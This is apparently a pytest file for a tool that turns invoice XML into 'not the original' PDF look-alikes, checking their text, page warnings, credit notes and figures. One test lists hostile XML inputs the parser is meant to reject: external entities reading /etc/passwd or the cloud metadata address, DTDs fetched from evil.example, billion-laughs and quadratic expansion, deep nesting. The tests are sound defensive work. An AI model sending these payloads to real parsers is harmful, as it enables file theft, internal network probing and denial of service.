"""Look-alikes: what an invoice's XML says can be read, is marked as not the original, and can do no harm."""

import datetime
import io
from decimal import Decimal
from pathlib import Path

import pypdf
import pytest

from notifiers.enclosing.invoice_xml import LINES_MAX, InvoiceSum, InvoiceXmlError, amount_of
from notifiers.enclosing.lookalike import LookalikePress, read_invoice_xml
from notifiers.writing.render import templates_folder

FOLDER = Path(__file__).parents[1] / "data" / "invoices"
PRESS = LookalikePress(templates_folder() / "layout")
MADE_AT = datetime.datetime(2026, 3, 16, tzinfo=datetime.UTC)


def xml(name: str) -> bytes:
    """Read a sample."""
    return (FOLDER / f"{name}.xml").read_bytes()


def text_of(content: bytes, *, language: str) -> str:
    """Read a look-alike's text, white space as single spaces."""
    pdf = PRESS.rebuild(content, language=language, made_at=MADE_AT)
    pages = pypdf.PdfReader(io.BytesIO(pdf)).pages
    return " ".join(" ".join(page.extract_text() for page in pages).split())


EXPECTED = {
    ("ubl-invoice", "en"): [
        "Not the original", "UBL 2.1", "Invoice F-10031", "Samples & Signals NV", "BE0000000000", "2000 Antwerp",
        "Corner Bakery Ltd", "NL-12345", "Jan 30, 2026", "Mar 1, 2026", "EUR", "Signal lamp – Red, enamelled",
        "12.5", "40.00", "500.00", '#read("x") *Assembly* $x$', "2 h", "161.16", "VAT 21 %", "138.84", "800.00",
        "Thank you for your order & trust", "F10031", "Page 1 of 1",
    ],
    ("dte-33", "es"): [
        "No es el original", "DTE 33", "Factura 1187", "Muestras y Señales S.A.", "76000000-0", "Valparaíso",
        "Panadería El Águila SpA", "76111111-6", "30 ene 2026", "1 mar 2026", "CLP",
        "Letrero luminoso – Instalación incluida", "386.471", "IVA 19 %", "73.429", "459.900", "801 · 7781",
    ],
    ("cfdi-4", "es"): [
        "No es el original", "CFDI 4.0", "Factura A-552", "MUESTRAS Y SEÑALES", "AAA010101AAA", "PANADERÍA EL ÁGUILA",
        "Lámpara de señal", "4 Pieza", "IVA 16 %", "1.160,00", "MXN", "00000000-0000-4000-8000-000000000000",
    ],
    ("ubl-invoice", "pt"): ["Não é o original", "Fatura F-10031", "800,00", "Página 1 de 1"],
}  # fmt: skip


@pytest.mark.parametrize(("name", "language"), EXPECTED.keys())
def test_what_the_xml_says_is_in_the_document(name: str, language: str) -> None:
    """S4-16: lines, sums, parties and days, in the reader's language, marked as not the original."""
    text = text_of(xml(name), language=language)
    assert [] == [value for value in EXPECTED[(name, language)] if value not in text]


def test_it_is_the_same_each_time_and_tagged() -> None:
    """Made twice it is the same file; its title says what it is."""
    pdf = PRESS.rebuild(xml("dte-33"), language="es-CL", made_at=MADE_AT)
    again = LookalikePress(templates_folder() / "layout").rebuild(
        xml("dte-33"), language="es-CL", made_at=MADE_AT
    )
    assert pdf == again
    metadata = pypdf.PdfReader(io.BytesIO(pdf)).metadata
    assert metadata is not None
    assert "Factura 1187 – No es el original" == metadata.title


def test_a_credit_note() -> None:
    """UBL: a credit note's lines and its name."""
    content = (
        xml("ubl-invoice")
        .replace(b"Invoice-2", b"CreditNote-2")
        .replace(b"InvoiceLine", b"CreditNoteLine")
        .replace(b"InvoicedQuantity", b"CreditedQuantity")
        .replace(b"<Invoice", b"<CreditNote")
        .replace(b"</Invoice>", b"</CreditNote>")
    )
    read = read_invoice_xml(content)
    assert ("credit_note", 2, Decimal("12.5")) == (read.kind, len(read.lines), read.lines[0].quantity)


def test_a_wrapped_invoice_is_found() -> None:
    """PEPPOL wraps an invoice in an envelope; so does who sends a DTE."""
    inner = xml("ubl-invoice").partition(b"?>")[2]
    wrapped = b"<StandardBusinessDocument><Header/>" + inner + b"</StandardBusinessDocument>"
    assert "F-10031" == read_invoice_xml(wrapped).number


def test_many_lines_are_cut_and_counted() -> None:
    """A document of thousands of lines shows the first ones and says how many there are."""
    line = xml("dte-33")
    first, last = line.index(b"<Detalle>"), line.index(b"</Detalle>") + len(b"</Detalle>")
    read = read_invoice_xml(line[:first] + line[first:last] * (LINES_MAX + 7) + line[last:])
    assert (LINES_MAX, 7) == (len(read.lines), read.unlisted)


@pytest.mark.parametrize(
    ("language", "warning"),
    [("es", "No es el original"), ("en", "Not the original"), ("pt", "Não é o original")],
)
def test_each_page_says_that_it_is_not_the_original(language: str, warning: str) -> None:
    """S4-16: a page that is taken out of a long document says it, too."""
    line = xml("dte-33")
    first, last = line.index(b"<Detalle>"), line.index(b"</Detalle>") + len(b"</Detalle>")
    pdf = PRESS.rebuild(
        line[:first] + line[first:last] * 90 + line[last:], language=language, made_at=MADE_AT
    )
    pages = [" ".join(each.extract_text().split()) for each in pypdf.PdfReader(io.BytesIO(pdf)).pages]
    assert len(pages) > 1
    assert [] == [number for number, text in enumerate(pages, start=1) if warning not in text]


BILLION_LAUGHS = (
    b'<!DOCTYPE a [<!ENTITY a0 "ha">'
    + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
    + b"]><a>&a9;</a>"
)
HARMFUL = {
    "an entity that reads a file": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "an entity from the web": b'<!DOCTYPE a [<!ENTITY x SYSTEM "http://169.254.169.254/">]><a>&x;</a>',
    "a parameter entity": b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><a/>',
    "a document type from elsewhere": b'<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>',
    "a billion laughs": BILLION_LAUGHS,
    "quadratic growth": b'<!DOCTYPE a [<!ENTITY x "' + b"x" * 50_000 + b'">]><a>' + b"&x;" * 5_000 + b"</a>",
    "deep": b"<a>" * 200_000,
    "deep and closed": b"<a>" * 100_000 + b"</a>" * 100_000,
    "no XML": b"%PDF-1.7",
    "nothing": b"",
    "another XML": b"<html><body/></html>",
    "an encoding that is none": b'<?xml version="1.0" encoding="nonsense"?><a/>',
    "large": b"<a>" + b" " * 11_000_000 + b"</a>",
    "no text": b"\xff\xfe\x00",
}


@pytest.mark.parametrize("content", HARMFUL.values(), ids=HARMFUL.keys())
def test_what_harms_is_refused(content: bytes) -> None:
    """A file of somebody else reads nothing of ours, asks nobody, and does not grow."""
    with pytest.raises(InvoiceXmlError):
        read_invoice_xml(content)


@pytest.mark.parametrize(
    ("text", "amount"),
    [
        ("12.50", Decimal("12.50")),
        ("-3", Decimal(-3)),
        ("1e999999", None),
        ("NaN", None),
        ("Infinity", None),
        ("1,5", None),
        ("9" * 31, None),
        ("٣", None),
        ("", None),
        ("1-2", None),
    ],
)
def test_figures(text: str, amount: Decimal | None) -> None:
    """A figure of the XML is a plain decimal, or it is not shown."""
    assert amount == amount_of(text)


def test_what_is_missing_is_left_out() -> None:
    """An invoice of which little is known is still a document."""
    bare = b'<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>'
    read = read_invoice_xml(bare)
    assert ("", (), ()) == (read.number, read.lines, read.sums)
    assert "Not the original" in text_of(bare, language="en")


def test_sums_are_as_the_xml_says() -> None:
    """Nothing is added up or corrected: a total that does not fit stays."""
    wrong = xml("dte-33").replace(b"<MntTotal>459900", b"<MntTotal>1")
    assert InvoiceSum(name="total", amount=Decimal(1)) in read_invoice_xml(wrong).sums
